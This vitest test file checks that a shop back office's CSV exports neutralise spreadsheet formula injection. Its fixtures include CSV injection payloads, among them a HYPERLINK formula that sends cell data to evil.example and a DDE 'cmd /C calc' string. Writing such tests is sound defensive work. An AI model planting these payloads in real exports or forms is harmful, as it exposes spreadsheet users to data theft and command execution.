/**
 * Every CSV export of the back office, opened as Excel opens a double-clicked file on a French or Tunisian machine:
 * split on `;` (the list separator there), quotes honoured only at a field's start, any line break ending a row.
 * Shoppers and staff fill every exported text field with formulas hidden behind `;`, `,`, tabs, line breaks and
 * quotes; no cell of any export may start with `=`, `+`, `-`, `@`, a tab or a carriage return.
 */
import { newsletterSubscribers } from "~/db/schema";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FORMULA_START, formulaCellsSplitOnSemicolons, readCsv } from "../csv-reader";
import { createTestApi, type Staff, type TestApi, uploadProductImage, validOrder, validProduct } from "./harness";

let t: TestApi;
let admin: Staff;
let superAdmin: Staff;
let editor: Staff;
const checked = { files: 0, commaCells: 0, semicolonCells: 0, formulas: 0 };

/** Short enough for the 20-character fields (name, city, zip), each hiding a formula a different way. */
const shortHostile = ["Amel;=2+3;x", "a;@SUM(A1:A9)", 'x;"=1+1', "Sfax;-2+3;", "b,+1;\t=1", "Rue 5;"];
/** For the longer fields: the OWASP example, line breaks, and a text ending in a separator. */
const longHostile = [
  ';=HYPERLINK("http://evil.example?"&A2,"Details");',
  "Bonjour;=cmd|' /C calc'!A0",
  "ligne un\n=1+1\r\n@SUM(A1)\r-1;+1",
  'Taille;""=2+5;"M"',
  "Merci,=1;\n",
];

beforeAll(async () => {
  t = await createTestApi();
  admin = await t.staff("ADMIN", { username: "Hela;=1+1" });
  superAdmin = await t.staff("SUPER_ADMIN");
  editor = await t.staff("EDITOR", { username: "Sami;@SUM(1)" });
});
afterAll(async () => {
  const cells = checked.commaCells + checked.semicolonCells;
  console.log(
    `csv exports: ${checked.files} files, ${cells} cells (${checked.commaCells} read split on ",", ${checked.semicolonCells} split on ";"), ${checked.formulas} formulas`,
  );
  await t.close();
});

/** Downloads an export, reads it both ways, and answers its cells as RFC 4180 reads them. */
async function exportChecked(path: string, token: string): Promise<string[]> {
  const res = await t.api.request(path, { headers: { authorization: `Bearer ${token}` } });
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect(res.status, new TextDecoder().decode(bytes).slice(0, 300)).toBe(200);
  const semicolon = formulaCellsSplitOnSemicolons(bytes);
  // Read as RFC 4180 says (Excel where the separator is a comma): the store's amounts are never negative, so no
  // cell at all may start a formula.
  const comma = readCsv(bytes).rows.flat();
  const formulas = [...semicolon.formulas, ...comma.filter((cell) => FORMULA_START.test(cell))];
  checked.files += 1;
  checked.commaCells += comma.length;
  checked.semicolonCells += semicolon.cells;
  checked.formulas += formulas.length;
  expect(formulas, `${path}: cells a spreadsheet would run`).toEqual([]);
  return comma;
}

/** A hostile text reached the file: some cell holds it, with only neutralising apostrophes added. */
function expectExported(cells: string[], text: string) {
  const bare = (s: string) => s.replace(/'/g, "");
  expect(
    cells.some((cell) => bare(cell).includes(bare(text))),
    `${JSON.stringify(text)} is in the file`,
  ).toBe(true);
}

describe("CSV exports read as French Excel reads them (split on ;)", () => {
  it("orders: names, streets, cities, zips and product names hold no formula", async () => {
    const image = await uploadProductImage(t, editor.token);
    const product = await t.call("POST", "/api/products/create", {
      token: editor.token,
      json: validProduct([image], { name: "Robe;=1+1", quantity: "100" }),
    });
    expect(product.status, JSON.stringify(product.body)).toBe(201);
    for (const [n, fullName] of shortHostile.entries()) {
      const order = await t.call("POST", "/api/orders/create", {
        json: validOrder([{ id: product.body.id, quantity: 1 }], {
          fullName,
          city: shortHostile[(n + 1) % shortHostile.length],
          zip: shortHostile[(n + 2) % shortHostile.length],
          street: longHostile[n % longHostile.length],
        }),
      });
      expect(order.status, JSON.stringify(order.body)).toBe(201);
    }
    const cells = await exportChecked("/api/orders/export", admin.token);
    for (const text of [...shortHostile, ...longHostile, "Robe;=1+1"]) expectExported(cells, text.trim());
  });

  it("messages: names, subjects and texts hold no formula", async () => {
    for (const [n, message] of longHostile.entries()) {
      const sent = await t.call("POST", "/api/messages/send", {
        json: { name: shortHostile[n], email: "-amal+x@example.com", subject: longHostile[(n + 1) % longHostile.length], message },
      });
      expect(sent.status, JSON.stringify(sent.body)).toBe(201);
    }
    const cells = await exportChecked("/api/messages/export", admin.token);
    for (const text of [...shortHostile.slice(0, longHostile.length), ...longHostile]) expectExported(cells, text.trim());
  });

  it("subscribers: e-mails hold no formula, even one the address rule would refuse today", async () => {
    for (const email of ["-promo@example.tn", "+1@example.tn", "=x'@example.tn"]) {
      const res = await t.call("POST", "/api/newsletter/subscribe?lang=fr", { json: { email, consent: true } });
      expect([201, 400], JSON.stringify(res.body)).toContain(res.status);
    }
    // The address rule refuses `;` now; the export must not rely on it (older rows, a rule loosened one day).
    await t.database.db.insert(newsletterSubscribers).values({ email: "a;=1+1@example.tn", locale: "fr", token: "csv-injection-token" });
    const cells = await exportChecked("/api/newsletter/export", admin.token);
    for (const text of ["-promo@example.tn", "+1@example.tn", "a;=1+1@example.tn"]) expectExported(cells, text);
  });

  it("audit: people, notes and changed fields hold no formula", async () => {
    const orders = await t.call("GET", "/api/orders?limit=2", { token: editor.token });
    expect(orders.status).toBe(200);
    for (const [n, order] of (orders.body as { id: number }[]).entries()) {
      const noted = await t.call("PUT", `/api/orders/note/${order.id}`, { token: admin.token, json: { note: longHostile[n] } });
      expect(noted.status, JSON.stringify(noted.body)).toBe(200);
    }
    const cells = await exportChecked("/api/audit/export", superAdmin.token);
    for (const text of ["Hela;=1+1", "Sami;@SUM(1)", "Robe;=1+1"]) expectExported(cells, text);
  });
});
